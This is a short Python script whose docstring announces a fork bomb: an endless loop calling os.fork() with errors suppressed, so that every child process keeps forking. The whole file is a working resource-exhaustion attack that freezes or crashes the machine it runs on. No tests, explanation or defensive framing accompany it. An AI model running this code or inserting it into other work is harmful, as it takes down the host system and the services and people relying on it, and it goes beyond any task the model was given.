"""Fork without end, in every child too."""

import contextlib
import os

while True:
    with contextlib.suppress(OSError):
        os.fork()
